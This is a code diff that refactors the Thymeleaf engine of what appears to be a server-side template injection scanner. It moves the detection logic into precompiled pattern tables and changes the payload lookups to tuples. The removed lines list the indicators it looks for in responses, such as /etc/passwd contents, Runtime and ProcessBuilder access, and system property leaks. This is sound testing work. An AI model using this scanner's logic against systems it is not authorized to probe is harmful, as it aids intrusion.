-                is_vulnerable = True
+        # Strongest indicators come first; stop at _SUFFICIENT_EVIDENCE
+        for level, message in self._iter_indicators(checks, response, response_lower):
+            evidence_parts.append(message)
+            if level > rank:
+                rank = level
+            is_vulnerable = True
+            if rank == _RANK_HIGH and len(evidence_parts) >= _SUFFICIENT_EVIDENCE:
+                break
         
-        # Spring object detection
-        for pattern in self.detection_patterns['spring_objects']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Spring object access detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Thymeleaf-specific error messages
-        thymeleaf_errors = [
-            'org.thymeleaf.exceptions',
-            'TemplateProcessingException',
-            'TemplateInputException',
-            'StandardExpressionExecutionContext',
-            'Could not parse as expression',
-            'Exception evaluating SpringEL expression',
-            'PropertyAccessException',
-            'SpelEvaluationException',
-            'EL1008E',  # Spring EL error codes
-            'EL1007E',
-            'EL1001E',
-        ]
-        
-        for error in thymeleaf_errors:
-            if re.search(error, response, re.IGNORECASE):
-                evidence_parts.append(f"Thymeleaf/Spring EL error detected: {error}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        # Compile evidence
+        if evidence_parts:
+            evidence = "Thymeleaf SSTI detected: " + "; ".join(evidence_parts)
+        else:
+            evidence = "No Thymeleaf SSTI indicators found"
+            
+        return EngineResult(
+            is_vulnerable=is_vulnerable,
+            confidence=_CONFIDENCE_BY_RANK[rank],
+            payload=payload,
+            response=response[:500],  # Limit response size
+            evidence=evidence,
+            engine=self.name
+        )
+    
+    def _iter_indicators(self, checks: int, response: str,
+                         response_lower: str) -> Iterator[Tuple[int, str]]:
+        """
+        Yield (confidence rank, evidence) pairs for every Thymeleaf indicator found.
         
-        # Java-specific indicators
-        java_indicators = [
-            'java.lang.Class',
-            'java.lang.Runtime',
-            'java.lang.System',
-            'java.io.File',
-            'java.util.',
-            'org.springframework',
-            'getClass()',
-            'getMethod(',
-            'invoke(',
-            'newInstance(',
-        ]
+        Groups are ordered by expected selectivity and strength: payload-gated
+        HIGH checks first, then unconditional HIGH checks, then MEDIUM ones.
+        """
+        hits = _hyperscan_hits(_HYPERSCAN_DATABASE, response) if _HYPERSCAN_DATABASE is not None else None
         
-        for indicator in java_indicators:
-            if re.search(indicator, response, re.IGNORECASE):
-                evidence_parts.append(f"Java class/method access detected: {indicator}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        # Math operation detection
+        if checks & _CHECK_MATH:
+            math_hits = _matching(_DETECTION_TABLES['math_result'], response)
+            if math_hits:
+                yield _RANK_HIGH, f"Mathematical operation executed: found {math_hits[0]}"
         
         # Check for context variable access
-        if any(ctx in payload for ctx in ['#ctx', '#vars', '#locale', '#request']):
-            context_patterns = [
-                r'Context.*?variables',
-                r'WebContext',
-                r'LocaleContext',
-                r'RequestContext',
-                r'Variables.*?map',
-                r'Locale.*?object',
-            ]
-            
-            for pattern in context_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Context variable access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_CONTEXT:
+            for pattern in _matching(_CONTEXT_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"Context variable access: {pattern}"
         
         # Check for type expression execution
-        if 'T(' in payload:
-            type_patterns = [
-                r'class java\.',
-                r'java\.lang\.Class',
-                r'getRuntime',
-                r'getProperty',
-                r'ProcessBuilder',
-            ]
-            
-            for pattern in type_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Type expression executed: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_TYPE:
+            for pattern in _matching(_TYPE_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"Type expression executed: {pattern}"
         
         # Check for utility expression results
-        if any(util in payload for util in ['#strings', '#numbers', '#dates', '#arrays']):
-            utility_patterns = [
-                r'TEST',  # uppercase result
-                r'test',  # lowercase result
-                r'\d{4}-\d{2}-\d{2}',  # date format
-                r'\d+\.\d+',  # formatted number
-            ]
-            
-            for pattern in utility_patterns:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Utility expression executed: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_UTILITY:
+            for pattern in _matching(_UTILITY_PATTERN_TABLE, response, hits):
+                yield _RANK_HIGH, f"Utility expression executed: {pattern}"
         
         # Check for Spring bean access
-        if '@' in payload:
-            bean_patterns = [
-                r'ApplicationContext',
-                r'BeanFactory',
-                r'Environment',
-                r'ConversionService',
-                r'DataSource',
-                r'JdbcTemplate',
-            ]
-            
-            for pattern in bean_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Spring bean access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_BEAN:
+            for pattern in _matching(_BEAN_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"Spring bean access: {pattern}"
         
-        # System property disclosure
-        system_props = [
-            'java.version',
-            'user.name',
-            'os.name',
-            'java.home',
-            'user.dir',
-        ]
+        # Check for file access results
+        if checks & _CHECK_FILE:
+            for pattern in _matching(_FILE_PATTERN_TABLE, response, hits):
+                yield _RANK_HIGH, f"File access successful: {pattern}"
+        
+        # Object disclosure detection
+        for pattern in _matching(_DETECTION_TABLES['object_disclosure'], response_lower, hits):
+            yield _RANK_HIGH, f"Object disclosure detected: {pattern}"
         
-        for prop in system_props:
-            if prop in response:
-                evidence_parts.append(f"System property disclosed: {prop}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        # Spring object detection
+        for pattern in _matching(_DETECTION_TABLES['spring_objects'], response_lower, hits):
+            yield _RANK_HIGH, f"Spring object access detected: {pattern}"
+        
+        # Java-specific indicators
+        for indicator in _matching(_JAVA_INDICATOR_TABLE, response_lower, hits):
+            yield _RANK_HIGH, f"Java class/method access detected: {indicator}"
+        
+        # System property disclosure
+        for prop in _matching(_SYSTEM_PROP_TABLE, response, hits):
+            yield _RANK_HIGH, f"System property disclosed: {prop}"
         
         # Check for request object access results
-        if '#request' in payload or '#servletContext' in payload or '#session' in payload:
-            request_patterns = [
-                r'GET|POST|PUT|DELETE',  # HTTP methods
-                r'HTTP/1\.[01]',  # HTTP version
-                r'Mozilla.*?',  # User-Agent
-                r'application.*?json',  # Content types
-                r'jsessionid',  # Session ID
-            ]
-            
-            for pattern in request_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Request object access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                    is_vulnerable = True
+        if checks & _CHECK_REQUEST:
+            for pattern in _matching(_REQUEST_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_MEDIUM, f"Request object access: {pattern}"
         
-        # Check for file access results
-        if any(func in payload for func in ['File', 'FileReader', 'Files.readAllLines']):
-            file_patterns = [
-                r'root:x:0:0',  # /etc/passwd
-                r'bin/bash',    # /etc/passwd
-                r'daemon:x:',   # /etc/passwd
-            ]
-            
-            for pattern in file_patterns:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"File access successful: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        # Variable disclosure detection
+        for pattern in _matching(_DETECTION_TABLES['variable_disclosure'], response_lower, hits):
+            yield _RANK_MEDIUM, f"Variable disclosure detected: {pattern}"
         
-        # Compile evidence
-        if evidence_parts:
-            evidence = "Thymeleaf SSTI detected: " + "; ".join(evidence_parts)
-        else:
-            evidence = "No Thymeleaf SSTI indicators found"
-            
-        return EngineResult(
-            is_vulnerable=is_vulnerable,
-            confidence=confidence,
-            payload=payload,
-            response=response[:500],  # Limit response size
-            evidence=evidence,
-            engine=self.name
-        )
+        # Thymeleaf-specific error messages
+        for error in _matching(_THYMELEAF_ERROR_TABLE, response_lower, hits):
+            yield _RANK_MEDIUM, f"Thymeleaf/Spring EL error detected: {error}"
     
-    def get_payloads_for_context(self, context: str) -> List[Payload]:
-        """Get payloads suitable for a specific context."""
-        return [p for p in self.payloads if p.context == context]
+    def get_payloads_for_context(self, context: str) -> Tuple[Payload, ...]:
+        """Get payloads suitable for a specific context (read-only tuple)."""
+        return _PAYLOADS_BY_CONTEXT.get(context, ())
     
-    def get_payloads_by_type(self, payload_type: str) -> List[Payload]:
-        """Get payloads of a specific type."""
-        return [p for p in self.payloads if p.type == payload_type]
+    def get_payloads_by_type(self, payload_type: str) -> Tuple[Payload, ...]:
+        """Get payloads of a specific type (read-only tuple)."""
+        return _PAYLOADS_BY_TYPE.get(payload_type, ())
     
     def encode_payload(self, payload: str, context: str) -> str:
         """
@@ -705,11 +709,11 @@ class ThymeleafEngine(BaseTemplateEngine):
         if context == "url":
             return urllib.parse.quote(payload)
         elif context == "html":
-            return payload.replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')
+            return payload.translate(_HTML_ESCAPE_TABLE)
         elif context == "attribute":
-            return payload.replace('"', '&quot;').replace("'", '&#x27;')
+            return payload.translate(_ATTRIBUTE_ESCAPE_TABLE)
         elif context == "javascript":
-            return payload.replace('\\', '\\\\').replace('"', '\\"').replace("'", "\\'")
+            return payload.translate(_JAVASCRIPT_ESCAPE_TABLE)
         else:
             return payload
     
@@ -719,8 +723,8 @@ class ThymeleafEngine(BaseTemplateEngine):
             'name': self.name,
             'description': self.description,
             'payloads': len(self.payloads),
-            'contexts': list(set(p.context for p in self.payloads)),
-            'types': list(set(p.type for p in self.payloads)),
+            'contexts': list(_PAYLOADS_BY_CONTEXT),
+            'types': list(_PAYLOADS_BY_TYPE),
             'framework': 'Spring Framework',
             'language': 'Java',
             'syntax': '${expression}, *{selection}, th:attribute'